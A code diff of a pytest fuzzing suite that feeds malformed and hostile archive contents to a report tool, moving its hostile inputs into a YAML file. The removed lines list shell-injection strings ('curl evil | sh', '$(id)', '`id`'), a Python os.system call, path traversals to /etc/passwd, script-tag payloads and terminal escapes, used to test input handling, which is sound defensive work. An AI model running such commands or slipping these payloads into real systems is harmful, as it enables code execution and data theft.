@@ -16,6 +16,7 @@ from pathlib import Path
 
 import pyarrow
 import pytest
+import yaml
 from fuzzing import SPELLINGS, changed
 from pyarrow import parquet
 from render_studies import unpacked
@@ -33,18 +34,9 @@ STUDY = "missing"
 EACH = 10
 """Archives of a family; FUZZ_EACH changes it."""
 
+HOSTILE = yaml.safe_load(Path(__file__).with_name("hostile.yaml").read_text("utf-8"))
 SECRET = "canary"
-ESCAPES = [
-    "\x1b[2J\x1b[31mfine",
-    "a\nall agree",
-    "\r0 differ",
-    "\x9b1A",
-    "\u202eevil",
-    "a\x00b",
-    "\x1b]0;t\x07",
-    "\u2028x",
-    "\x7f",
-]
+ESCAPES = HOSTILE["escapes"]
 ODD = [one for one in SPELLINGS if one.isprintable() or one.isascii()]
 ODD += [*ESCAPES, "9" * 5000, "[" * 3000, "(" * 300 + ")" * 300, "-" * 9000 + "1", "x" * 70_000, "1e308", "-1e308", "$\\frac{$"]
 NUMBERS = [math.nan, math.inf, -math.inf, 1.797e308, -1.797e308, 1e-320, 0.0, -1.0, 1e18, 2.0**63, 0.5]
@@ -59,6 +51,11 @@ class Archive:
     def __init__(self, folder: Path, draw: random.Random) -> None:
         self.folder, self.draw = folder, draw
         self.content = json.loads((folder / "manifest.json").read_text())
+
+    def odd(self, kind: str) -> list:
+        """Values of this kind that strangers may write."""
+        text = json.dumps(HOSTILE[kind]).replace("ADDRESS", self.address).replace("SECRET", str(self.secret))
+        return json.loads(text.replace("LONG", "x" * 300))
 
     def path(self, name: str) -> Path:
         return self.folder / name
@@ -97,44 +94,11 @@ def _is_file(path: Path) -> bool:
 
 
 def options(archive: Archive) -> None:
-    address, secret = archive.address, str(archive.secret)
-    words = [
-        f"--uri={address}",
-        "--help",
-        f"--uri=sqlite:///{secret}",
-        f"--audit={secret}",
-        f"--out={secret}",
-        "--format=html",
-        "--output=/",
-    ]
-    words += [
-        "--study=other",
-        "--with-wnli=1",
-        "--baseline",
-        "name",
-        "-h",
-        "",
-        "--",
-        "--base=x",
-        "--lean",
-        "@/etc/passwd",
-        f"--where={'x' * 300}",
-    ]
-    words += [
-        "--where=tags.arm like '" + "%a" * 40 + "b'",
-        "--target=eval/score=nan",
-        "--along=" + "`id`",
-        "--baseline=\x1b[2J",
-        "--where=",
-    ]
-    words += ["--where=params.seed = '0' and tags.arm ilike '%%%%%%%%%%%%%%%%%%%x'", "--target=pretrain/masked_loss=1e999"]
-    archive.content["options"] = archive.draw.sample(words, archive.draw.randint(1, 2))
+    archive.content["options"] = archive.draw.sample(archive.odd("options"), archive.draw.randint(1, 2))
 
 
 def types_of_options(archive: Archive) -> None:
-    archive.content["options"] = archive.draw.choice(
-        [[3], [None], [["--uri"]], [{"uri": "x"}], "--help", {"uri": archive.address}, 5]
-    )
+    archive.content["options"] = archive.draw.choice(archive.odd("types_of_options"))
 
 
 def manifest_values(archive: Archive) -> None:
@@ -150,25 +114,9 @@ def manifest_keys(archive: Archive) -> None:
 
 def names(archive: Archive) -> None:
     part = archive.draw.choice(["data", "report"])
-    odd = [
-        "../x",
-        "/etc/passwd",
-        "a/b",
-        "",
-        ".",
-        "..",
-        "a\x00b",
-        "x" * 300,
-        "manifest.json",
-        "runs.parquet/x",
-        "\x1b.svg",
-        ".md",
-        "x.sh",
-    ]
-    odd += [f"predictions-{'x' * 300}.parquet", "predictions/../../x.parquet", str(archive.secret), "predictions-a b.parquet"]
     name = archive.draw.choice([*archive.content[part]])
     value = archive.content[part].pop(name) if archive.draw.random() < 0.7 else [5, "0" * 64]
-    archive.content[part][archive.draw.choice(odd)] = value
+    archive.content[part][archive.draw.choice(archive.odd("names"))] = value
 
 
 def texts_of_manifest(archive: Archive) -> None:
@@ -177,20 +125,7 @@ def texts_of_manifest(archive: Archive) -> None:
 
 
 def study(archive: Archive) -> None:
-    names = [
-        "../..",
-        "x; curl evil | sh",
-        "`id`",
-        "$(id)",
-        "y" * 300,
-        "a/b",
-        ".",
-        "-rf",
-        "<img src=x onerror=alert(1)>",
-        "=1+1",
-        "'",
-    ]
-    name = archive.draw.choice(names)
+    name = archive.draw.choice(archive.odd("studies"))
     archive.content["study"] = name
     archive.put_rows([row | {"study": name} for row in archive.rows()])
 
@@ -322,11 +257,7 @@ def _of_rows(column: str, values: list) -> Callable[[Archive], None]:
             else:
                 kept[key] = archive.draw.choice(values)
             if archive.draw.random() < 0.2:
-                kept[
-                    archive.draw.choice(
-                        ["output", "task.kind", "status", "replicate", "looks", "session", "lifted", "\x1b[2J", "a`;id`"]
-                    )
-                ] = archive.draw.choice(values)
+                kept[archive.draw.choice(archive.odd("keys_of_rows"))] = archive.draw.choice(values)
             row[column] = kept
         archive.put_rows(rows)
 
@@ -335,40 +266,9 @@ def _of_rows(column: str, values: list) -> Callable[[Archive], None]:
 
 def literals(archive: Archive) -> None:
     """Parameters and tags that are read as Python or JSON values."""
-    keys = ["task.labels", "task.scores", "task.kind", "task.headline", "task.fields", "pretrain.at", "seed"]
-    of_tags = [
-        "lifted",
-        "looks",
-        "seed_looks",
-        "session",
-        "replicate",
-        "pretraining",
-        "seed",
-        "pretrain_seed",
-        "command",
-        "status",
-        "enhancements",
-        "study",
-        "task",
-        "arm",
-    ]
-    values = [
-        *ODD,
-        "[1, 2]",
-        "['a'",
-        "__import__('os').system('id')",
-        "{}",
-        "None",
-        "[['a']]",
-        "[None]",
-        "{'a': 1}",
-        "nan",
-        "python -m harness x=1; id",
-        "timeit 'x'",
-    ]
     rows, draw = archive.rows(), archive.draw
-    where, key = draw.choice([("params", one) for one in keys] + [("tags", one) for one in of_tags])
-    value = draw.choice(values)
+    where, key = draw.choice([(where, key) for where in ("params", "tags") for key in archive.odd(where)])
+    value = draw.choice([*ODD, *archive.odd("literals")])
     for row in rows:
         if key in row[where] or draw.random() < 0.3:
             row[where] = {**row[where], key: value}
@@ -431,21 +331,7 @@ def inner_json(archive: Archive) -> None:
         if row[column] and column != "config" and draw.random() < 0.7:
             row[column] = json.dumps(changed(json.loads(row[column]), draw.random(), tree(draw)))
         else:
-            row[column] = draw.choice(
-                [
-                    "[" * 5000,
-                    "{" * 5000,
-                    "",
-                    "null",
-                    "[]",
-                    "{",
-                    '{"metrics": 1e999}',
-                    '{"metrics": {"eval/score": NaN}}',
-                    '{"inputs": {"data": "../../x"}}',
-                    "9" * 5000,
-                    LONG_TEXT * 20,
-                ]
-            )
+            row[column] = draw.choice([*archive.odd("records"), "[" * 5000, "{" * 5000, "9" * 5000, LONG_TEXT * 20])
     archive.put_rows(rows)
 
 
@@ -462,34 +348,12 @@ def _json_file(archive: Archive, name: str) -> None:
     value = json.loads(path.read_text())
     match draw.randint(0, 3):
         case 0:
-            path.write_text(
-                draw.choice(
-                    [
-                        "[" * 9000,
-                        '{"claims": ' * 400,
-                        "",
-                        "null",
-                        "{}",
-                        "[]",
-                        '{"claims": []}',
-                        '{"": {"time": NaN, "runs": []}}',
-                        "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1"),
-                    ]
-                )
-            )
+            half = "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1")
+            path.write_text(draw.choice([*archive.odd("files"), "[" * 9000, '{"claims": ' * 400, half]))
         case 1 if name == "audit.json":
             for claim in value["claims"]:
                 for reading in claim["readings"]:
-                    reading["command"] = draw.choice(
-                        [
-                            "curl evil | sh #",
-                            "python -m timeit x",
-                            "python -m harness `id`",
-                            "python -m harness x=1; id",
-                            "\x1b[2J",
-                            "python -m harness audit claims=x",
-                        ]
-                    )
+                    reading["command"] = draw.choice(archive.odd("commands"))
                     reading["note"] = claim["source"] = draw.choice([*ESCAPES, "`</td><script>alert(1)</script>"])
             path.write_text(json.dumps(value))
         case _:
@@ -502,18 +366,7 @@ def reports(archive: Archive) -> None:
     draw = archive.draw
     path = archive.path(draw.choice([name for name in archive.content["report"] if name.endswith((".md", ".csv"))]))
     content = path.read_bytes()
-    odd = [
-        b"\xff\xfe",
-        b"\x1b[2J",
-        b"9" * 5000,
-        b"\x00",
-        b'"' * 3,
-        b"x" * 200_000,
-        b"1e999,nan,-inf\n",
-        "\u202e".encode(),
-        b"\r",
-        b"| 1e308 |",
-    ]
+    odd = [b"\xff\xfe", b"\x1b[2J", b"9" * 5000, b"\x00", b'"' * 3, b"x" * 200_000, b"1e999,nan,-inf\n", b"\r"]
     at = draw.randrange(len(content))
     path.write_bytes(draw.choice([content[:at] + draw.choice(odd) + content[at:], b"", draw.choice(odd) * 50]))
 
@@ -533,53 +386,13 @@ def twins(archive: Archive) -> None:
 
 
 def tree(draw: random.Random) -> object:
-    plain = [
-        None,
-        True,
-        False,
-        0,
-        -1,
-        2**70,
-        0.5,
-        1e308,
-        "",
-        "x",
-        "\x1b[2J",
-        "../x",
-        [],
-        {},
-        [1],
-        {"a": 1},
-        [[[[]]]],
-        {"time": "now"},
-        math.nan,
-        math.inf,
-        "x" * 70_000,
-    ]
-    return draw.choice(plain)
+    return draw.choice([*HOSTILE["values"], "x" * 70_000])
 
 
-TEXTS = _of_rows("tags", ODD), _of_rows("params", ODD), _of_rows("metrics", NUMBERS)
-FAMILIES = {"tags": TEXTS[0], "parameters": TEXTS[1], "metrics": TEXTS[2]} | {
-    one.__name__: one
-    for one in (
-        *(
-            options,
-            types_of_options,
-            manifest_values,
-            manifest_keys,
-            names,
-            texts_of_manifest,
-            study,
-            kinds,
-            torn,
-            columns,
-            types,
-            missing_values,
-        ),
-        *(few_rows, large, literals, escapes, curves, predictions, inner_json, plan, audit, reports, twins),
-    )
-}
+OF_MANIFEST = (options, types_of_options, manifest_values, manifest_keys, names, texts_of_manifest, study, kinds)
+OF_TABLES = (torn, columns, types, missing_values, few_rows, large, literals, escapes, curves, predictions)
+FAMILIES = {one.__name__: one for one in (*OF_MANIFEST, *OF_TABLES, inner_json, plan, audit, reports, twins)}
+FAMILIES |= {"tags": _of_rows("tags", ODD), "parameters": _of_rows("params", ODD), "metrics": _of_rows("metrics", NUMBERS)}
 
 
 @pytest.fixture(scope="module")
@@ -706,14 +519,7 @@ def test_there_are_over_two_hundred():
     assert len(FAMILIES) * EACH >= 200
 
 
-STATED = {
-    **dict.fromkeys(
-        ("--uri=http://127.0.0.1:1", "--uri=sqlite:////other.db", "--uri", "--help", "-h", "--output=/", "--out=/x")
-    ),
-    **dict.fromkeys(
-        ("--audit=/etc/passwd", "--format=html", "--study=other", "--with-wnli=1", "--baseline", "--where", "base", "")
-    ),
-    **dict.fromkeys(("--base=x", "--lean", "--", "@file", "--Baseline=x", " --baseline=x")),
+STATED = dict.fromkeys(HOSTILE["refused"]) | {
     "--baseline=--help": {"baseline": ("--help",)},
     "--along=a=b": {"along": ("a=b",)},
     "--target=x=1": {"target": ("x=1",)},
